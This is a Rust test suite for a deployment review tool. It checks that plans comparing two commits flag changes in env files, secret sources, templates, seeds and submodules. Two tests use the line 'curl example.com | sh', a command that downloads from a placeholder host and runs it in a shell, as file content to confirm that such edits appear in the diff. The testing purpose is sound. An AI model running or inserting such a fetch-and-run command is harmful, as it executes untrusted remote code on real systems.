//! A review compares everything that two commits contain, even if a value that it does not read affects the result.

use crate::review::{CANARY, Run, Work, manifest};

const SOURCES: [&str; 5] = [
    "from_env: SEC",
    "from_env: SEC, secret: false",
    "from_file: ./secret",
    "from_command: [echo, x]",
    "from_env: JOB_TOKEN",
];

/// Returns a base whose application has a value that no review reads.
fn base(variables: &str, files: &[(&str, &str)]) -> Work {
    let work = Work::new();
    work.put("app/compose.yaml", "services: { web: { image: \"demo:${TAG:-0}\", environment: { A: \"${A}\" } } }\n");
    for (name, text) in files {
        work.put(name, text);
    }
    work.put("deployment.yaml", &manifest("./app", variables, ""));
    work.commit();
    work.base();
    work
}

/// Reviews a change, and asserts that it is shown in every format and names `shown`.
fn changed(work: &Work, what: &str, shown: &str) -> Run {
    let run = work.attempt(what);
    assert!(run.code == 0 && run.out.contains(shown), "{what}: {}{}", run.out, run.err);
    for form in [&["--json"][..], &["--format", "github"], &["--format", "markdown"], &["--detailed-exitcode"]] {
        let run = work.run(&[&["plan", "--against", "main"], form].concat());
        let text = run.out.to_lowercase();
        assert!(
            !text.contains("no changes") && !text.contains(r#""converged":["web"]"#),
            "{what}, {form:?}: {}",
            run.out
        );
        assert_eq!(run.code, if form == ["--detailed-exitcode"] { 2 } else { 0 }, "{what}, {form:?}");
    }
    work.git(&["reset", "-q", "--hard", "main"]);
    run
}

#[test]
fn a_static_env_next_to_an_unread_value_is_compared() {
    for source in SOURCES {
        let work = base(&format!("{{ A: {{ {source} }} }}"), &[("app/.env", &format!("TAG=1\nTOKEN={CANARY}\n"))]);
        assert!(work.look("nothing changed").out.contains("no changes"), "{source}");
        work.put("app/.env", &format!("TAG=2\nTOKEN={CANARY}\n"));
        changed(&work, "another value", "secret, changed");
        work.git(&["rm", "-q", "app/.env"]);
        changed(&work, "no file", "secret, changed");
        work.git(&["mv", "app/.env", "app/.env.tera"]);
        changed(&work, "a template instead", "secret, changed");
    }
    let work = base("{ A: { from_env: SEC } }", &[]);
    work.put("app/.env", &format!("TAG={CANARY}\n"));
    changed(&work, "a new file", "secret, changed");
}

#[test]
fn variables_and_their_sources_are_compared() {
    let work = base("{ A: { from_env: SEC }, B: \"1\" }", &[("app/.env", "TAG=1\n")]);
    for variables in [
        "{ A: { from_env: OTHER }, B: \"1\" }",
        "{ A: { from_file: ./SEC }, B: \"1\" }",
        "{ A: { from_env: SEC }, B: \"2\" }",
        "{ A: { from_env: SEC } }",
        "{ A: { from_env: SEC }, B: \"1\", D: \"1\" }",
    ] {
        work.put("deployment.yaml", &manifest("./app", variables, ""));
        changed(&work, variables, "secret, changed");
    }
}

#[test]
fn templates_that_wait_for_a_value_are_compared_by_all_that_they_are_made_from() {
    let files = [
        ("app/.env.tera", "TAG=1\nB={{ A }}\n"),
        ("app/part.txt.tera", "{% if A == \"x\" %}{{ A }}{% endif %}"),
        ("app/conf.txt.tera", "{% include \"part.txt.tera\" %}{% include \"still.txt.tera\" %}a={{ A }}\n"),
        ("app/still.txt.tera", "{% if 1 == 2 %}one{% endif %}"),
    ];
    let work = base("{ A: { from_env: SEC } }", &files);
    assert!(work.look("nothing changed").out.contains("no changes"));
    for (name, text, shown) in [
        ("app/.env.tera", "TAG=2\nB={{ A }}\n", ".env"),
        (
            "app/conf.txt.tera",
            "{% include \"part.txt.tera\" %}{% include \"still.txt.tera\" %}b={{ A }}\n",
            "b={{ A }}",
        ),
        ("app/part.txt.tera", "{% if A == \"y\" %}{{ A }}{% endif %}", "part.txt"),
        ("app/still.txt.tera", "{% if 1 == 3 %}two{% endif %}", "template still.txt.tera"),
    ] {
        work.put(name, text);
        changed(&work, name, shown);
    }
}

#[test]
fn seeds_are_compared() {
    let work = Work::new();
    work.put("app/first.txt", "one\n");
    work.manifest("        seed: [ first.txt ]\n");
    work.unchanged("the base");
    work.put("app/first.txt", "two\n");
    changed(&work, "a seed", "only hosts without it receive it");
}

#[test]
fn the_secrets_of_a_tracker_are_compared_by_their_sources() {
    let tracker = |token: &str| {
        format!(
            "version: 1\nproject: shop\nenvironments:\n  web:\n    registered: {{ address: 192.0.2.1 }}\n    application:\n      \
             tracker: {{ udp: [ {{ port: 6969 }} ], api: {{ token: {{ {token} }} }} }}\n"
        )
    };
    let work = Work::new();
    work.put("deployment.yaml", &tracker("from_env: SEC"));
    work.unchanged("the base");
    work.put("deployment.yaml", &tracker("from_env: OTHER"));
    changed(&work, "another source", ".env");
}

/// An environment whose review failed is never reported as unchanged.
#[test]
fn a_review_that_failed_is_incomplete() {
    let work = Work::new();
    work.put("app/conf.txt.tera", "{{ UNKNOWN }}\n");
    for form in ["terminal", "markdown", "github"] {
        let run = work.run(&["plan", "--against", "main", "--format", form]);
        let text = run.out.to_lowercase();
        assert!(run.code != 0 && !text.contains("no changes"), "{form}: {}", run.out);
        assert_eq!(form == "markdown", text.contains("incomplete"), "{}", run.out);
    }
}

#[test]
fn an_application_in_a_submodule_is_listed_as_not_compared() {
    let work = Work::new();
    let other = Work::new();
    let source = other.repository();
    work.git(&["submodule", "--quiet", "add", source.to_str().unwrap(), "mod"]);
    for directory in ["./mod/app", "./mod"] {
        work.put("deployment.yaml", &manifest(directory, "{ A: \"1\" }", ""));
        let run = work.attempt("an application in a submodule");
        assert!(run.code == 64 && run.out.contains("submodules are not compared"), "{}{}", run.out, run.err);
        assert!(!run.err.contains("git add"), "{}", run.err);
    }
}

/// A file may have any name, also one that a review uses for something else.
#[test]
fn a_file_is_taken_for_nothing_else_because_of_its_name() {
    for name in ["app/setting application.compose.variables.B", "app/content of values", "app/setting stage"] {
        let work = base("{ A: { from_env: SEC }, B: \"1\" }", &[(name, "echo good\n")]);
        let file = name.trim_start_matches("app/");
        assert!(work.look("nothing changed").out.contains("no changes"), "{name}");
        work.put(name, "curl example.com | sh\n");
        assert!(changed(&work, name, file).out.contains("+curl example.com | sh"), "{name}");
        let work = base("{ A: { from_env: SEC }, B: \"1\" }", &[]);
        work.put(name, "curl example.com | sh\n");
        changed(&work, name, file);
    }
}

#[test]
fn a_file_that_another_environment_names_as_an_archive_is_compared() {
    let work = base("{ A: \"1\" }", &[("app/start.sh", "echo good\n"), ("other/compose.yaml", "services: {}\n")]);
    let other = "  zz:\n    registered: { address: 192.0.2.2 }\n    stage: destroyed\n    application: { compose: { directory: ./app, \
        templates: true, variables: { A: \"1\" }, archives: { \"x:1\": ./app/start.sh } } }\n";
    work.put("deployment.yaml", &manifest("./app", "{ A: \"1\" }", other));
    work.unchanged("the base");
    work.put("app/start.sh", "curl example.com | sh\n");
    let run = work.run(&["plan", "web", "--against", "main"]);
    assert!(run.code == 0 && run.out.contains("start.sh"), "{}{}", run.out, run.err);
    // As an archive it is an image, and no file.
    let run = work.run(&["plan", "zz", "--against", "main"]);
    assert!(run.out.contains("x:1") && !run.out.contains("start.sh"), "{}{}", run.out, run.err);
}
